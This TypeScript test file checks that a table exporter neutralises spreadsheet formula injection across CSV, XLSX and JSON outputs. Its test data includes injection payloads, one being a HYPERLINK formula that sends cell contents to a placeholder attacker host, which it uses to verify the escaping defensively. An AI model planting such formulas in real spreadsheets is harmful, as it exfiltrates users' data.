import fc from 'fast-check';
import { strFromU8, unzipSync } from 'fflate';
import { readSheet } from 'read-excel-file/node';
import { describe, expect, it } from 'vitest';
import { fromUtf8 } from '../../../shared/base/bytes.ts';
import { csvCell, harmlessCell, honestCell, LONGEST_CELL } from '../../../shared/base/spreadsheetCell.ts';
import { collected } from '../../../shared/snapshot/tables/chunks.ts';
import { csvChunks } from '../../../shared/snapshot/tables/csvChunks.ts';
import { jsonChunks, ndjsonChunks } from '../../../shared/snapshot/tables/jsonChunks.ts';
import { SheetNames } from '../../../shared/snapshot/tables/sheetNames.ts';
import type { Cell, Table } from '../../../shared/snapshot/tables/table.ts';
import { xlsxChunks } from '../../../shared/snapshot/tables/xlsxChunks.ts';

const tableOf = (rows: readonly (readonly Cell[])[], types: readonly Table['columns'][number]['type'][] = ['text', 'text']): Table => ({
  name: 'register',
  title: 'Register',
  columns: types.map((type, index) => ({ id: `c${index + 1}`, label: `Column ${index + 1}`, type })),
  rows,
});

const FORMULAS = [
  '=1+1',
  '+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '＝1',
  '＋1',
  '－1',
  '＠1',
  '=HYPERLINK("http://evil.invalid/"&A1)',
];
/** White space that programs drop, and then what they compute. */
const START = /^[\t\r\n]*[=+\-@＝＋－＠]/;

/** What a program makes of a line that takes this character for the end of a cell, and knows quotes only at the start of one. */
function cellsBy(separator: string, text: string): string[] {
  const cells: string[] = [];
  let rest = text;
  while (rest !== '') {
    const quoted = /^"((?:[^"]|"")*)"/.exec(rest);
    const end = quoted ? quoted[0].length : 0;
    const next = rest.slice(end).search(separator === ';' ? /[;\r\n]/ : /[,\r\n]/);
    const cut = next < 0 ? rest.length : end + next;
    cells.push(quoted ? (quoted[1] ?? '').replaceAll('""', '"') + rest.slice(end, cut) : rest.slice(0, cut));
    rest = rest.slice(cut + 1);
  }
  return cells;
}

const pieces = fc.array(fc.constantFrom('=', '+', '-', '@', '＝', "'", '"', ';', ',', '\t', '\r', '\n', 'a', ' ', '_x0041_'), {
  maxLength: 12,
});
const texts = fc.oneof(
  pieces.map((list) => list.join('')),
  fc.string({ unit: 'grapheme', maxLength: 20 }),
);

describe('[SNP60] no cell of a table is ever computed', () => {
  it.each(FORMULAS)('%j is text in CSV', (formula) => {
    expect(harmlessCell(formula)).toBe(`'${formula}`.replace(/^('[\t\r\n])=/, "$1'="));
    expect(honestCell(harmlessCell(formula))).toBe(formula);
  });

  it('whatever a program takes for the end of a cell', () => {
    fc.assert(
      fc.property(texts, texts, (first, second) => {
        const line = `${csvCell(first)},${csvCell(second)}`;
        for (const separator of [',', ';']) for (const cell of cellsBy(separator, line)) expect(cell).not.toMatch(START);
      }),
      { numRuns: 10_000, seed: 60 },
    );
  });

  it('and the mark comes off again, wherever it was set', () => {
    fc.assert(
      fc.property(texts, (text) => {
        expect(honestCell(harmlessCell(text))).toBe(text);
      }),
      { numRuns: 3_000, seed: 61 },
    );
  });

  it('a number is a number, also below zero', async () => {
    const table = tableOf([[-5, '-5']], ['number', 'text']);
    expect(fromUtf8(await collected(csvChunks(table)))).toBe('\uFEFFColumn 1,Column 2\r\n-5,"\'-5"\r\n');
  });

  it('in a workbook a cell is an inline string or a number, and there is no other element', async () => {
    const rows = FORMULAS.map((formula) => [formula, `"/><f>${formula}</f>`]);
    const files = unzipSync(await collected(xlsxChunks([tableOf(rows), tableOf([[Number.NaN, -1]])])));
    const sheets = Object.entries(files).filter(([path]) => path.startsWith('xl/worksheets/'));
    expect(sheets).toHaveLength(2);
    for (const [, bytes] of sheets) {
      const xml = strFromU8(bytes);
      expect(new Set([...xml.matchAll(/<([a-zA-Z]+)/g)].map(([, name]) => name))).toEqual(
        new Set([
          'worksheet',
          'sheetViews',
          'sheetView',
          'pane',
          'cols',
          'col',
          'sheetData',
          'row',
          'c',
          'is',
          't',
          'autoFilter',
          ...(xml.includes('<v>') ? ['v'] : []),
        ]),
      );
      expect(xml).not.toMatch(/<c [^>]*t="(?!inlineStr")/);
    }
    expect(strFromU8(files['xl/worksheets/sheet2.xml'] as Uint8Array)).toContain('<v>-1</v>');
  });
});

describe('[SNP61] a table says the same in every format', () => {
  it('cells of a workbook come back as they are, whatever XML says of their characters', async () => {
    const rows = [
      ['=HYPERLINK("x")', '<b>&amp;]]>'],
      ['00123', 'line\nbreak\ttab'],
      ['bell\u0007 null\u0000 \uFFFE', 'Zahlung ½ 支払い 💳'],
      [' kept ', '_x000D_ and _x005F_'],
    ];
    const read = await readSheet(Buffer.from(await collected(xlsxChunks([tableOf(rows)]))), { trim: false });
    expect(read).toEqual([['Column 1', 'Column 2'], ...rows]);
  });

  it('lists, numbers, yes and no, and blanks', async () => {
    const table = tableOf([[['a', 'b'], 3, true, undefined, '2026-01-31']], ['list', 'number', 'yes or no', 'text', 'day']);
    expect(JSON.parse(fromUtf8(await collected(jsonChunks(table, [{ id: 'place', label: 'Place', value: 7 }]))))).toEqual({
      table: 'register',
      title: 'Register',
      about: { place: 7 },
      columns: table.columns,
      rows: [{ c1: ['a', 'b'], c2: 3, c3: true, c5: '2026-01-31' }],
    });
    expect(fromUtf8(await collected(ndjsonChunks(table)))).toBe('{"c1":["a","b"],"c2":3,"c3":true,"c5":"2026-01-31"}\n');
    expect(fromUtf8(await collected(csvChunks(table))).split('\r\n')[1]).toBe('"a; b",3,yes,,2026-01-31');
    expect(await readSheet(Buffer.from(await collected(xlsxChunks([table]))))).toEqual([
      ['Column 1', 'Column 2', 'Column 3', 'Column 4', 'Column 5'],
      ['a; b', 3, 'yes', null, '2026-01-31'],
    ]);
  });

  it('an empty table is its header', async () => {
    expect(fromUtf8(await collected(csvChunks(tableOf([]))))).toBe('\uFEFFColumn 1,Column 2\r\n');
    expect(JSON.parse(fromUtf8(await collected(jsonChunks(tableOf([])))))).toMatchObject({ rows: [] });
    expect(fromUtf8(await collected(ndjsonChunks(tableOf([]))))).toBe('');
    expect(await readSheet(Buffer.from(await collected(xlsxChunks([tableOf([])]))))).toEqual([['Column 1', 'Column 2']]);
  });
});

describe('[SNP62] what does not fit is cut where everybody sees it, or goes on in a further sheet', () => {
  it('a cell', async () => {
    const long = `${'ä'.repeat(LONGEST_CELL - 60)}${'💳'.repeat(40_000)}`;
    const table = tableOf([[long, 'whole']], ['long', 'text']);
    const [, row] = await readSheet(Buffer.from(await collected(xlsxChunks([table]))));
    expect(String(row?.[0]).length).toBe(LONGEST_CELL);
    expect(String(row?.[0])).toMatch(/… \[cut: 112707 characters; all of them are in the JSON\]$/);
    const { rows } = JSON.parse(fromUtf8(await collected(jsonChunks(table)))) as { rows: { c1: string }[] };
    expect(rows[0]?.c1).toBe(long);
  });

  it('a sheet', async () => {
    const rows = Array.from({ length: 25 }, (_, index) => [index + 1, `row ${index + 1}`]);
    const bytes = Buffer.from(
      await collected(xlsxChunks([tableOf(rows), tableOf([['other', '']])], { limits: { rows: 10, length: 1e9 } })),
    );
    const sheets = await Promise.all(['Register', 'Register 2', 'Register 3', 'Register 4'].map((sheet) => readSheet(bytes, sheet)));
    expect(sheets.map((sheet) => sheet.length)).toEqual([10, 10, 8, 2]);
    expect(sheets.slice(0, 3).flatMap((sheet) => sheet.slice(1))).toEqual(rows);
    expect(sheets[1]?.[0]).toEqual(['Column 1', 'Column 2']);
  });

  it('the names of sheets', () => {
    const names = new SheetNames();
    for (const title of ['Who: what/why [1]', 'x'.repeat(40), 'X'.repeat(40), "'''", '']) names.next(title);
    expect(names.all).toEqual(['Who  what why  1', 'x'.repeat(31), `${'X'.repeat(29)} 2`, 'Sheet', 'Sheet 2']);
  });
});
